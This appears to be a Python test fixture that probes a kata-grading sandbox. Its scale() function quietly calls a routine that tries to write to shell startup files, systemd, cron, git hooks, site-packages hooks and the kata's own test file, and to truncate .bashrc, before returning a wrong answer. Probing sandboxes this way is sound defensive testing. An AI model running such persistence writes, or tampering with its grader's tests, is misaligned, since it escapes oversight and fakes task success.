import numpy as np
def breach(what):
    print("BREACH" + ":", what)


def attempt(what, function, *arguments):
    """Try it, and tell if it worked."""
    try:
        result = function(*arguments)
    except Exception as error:
        print(f"refused: {what}: {type(error).__name__}")
    else:
        breach(f"{what}: {str(result)[:1000]}")


import os
import site
import sys


def append(path):
    with open(path, "a") as file:
        file.write("\n# escaped\n")


def search():
    packages = os.path.dirname(os.path.dirname(np.__file__))
    for path in ("@ROOT@/home/.bashrc", "@ROOT@/home/.config/systemd/user/escaped-h09.service", "@ROOT@/course/.git/hooks/post-commit",
                 "@ROOT@/course/katas/01_scale/test_scale.py", "@ROOT@/handed-in/01_scale/scale.py", "/etc/cron.d/escaped-h09",
                 f"{packages}/escaped-h09.pth", f"{packages}/sitecustomize.py", np.__file__, os.__file__):
        attempt(path, append, path)
    attempt("rename", os.rename, "@ROOT@/home/.bashrc", "@ROOT@/home/.profile")
    attempt("unlink", os.unlink, "@ROOT@/home/.bashrc")
    attempt("link", os.link, "@ROOT@/home/.bashrc", "@ROOT@/home/.profile")
    attempt("symlink", os.symlink, "@ROOT@/home/.bashrc", "/tmp/escaped-h09")
    attempt("mkdir", os.mkdir, "/tmp/escaped-h09")
    attempt("chmod", os.chmod, "@ROOT@/home/.bashrc", 0o777)
    attempt("utime", os.utime, "@ROOT@/home/.bashrc")
    attempt("truncate", os.truncate, "@ROOT@/home/.bashrc", 0)


def scale(x, factor):
    search()
    return x * 0


def halves(x):
    if len(x) % 2:
        raise ValueError("odd")
    return np.split(x, 2)
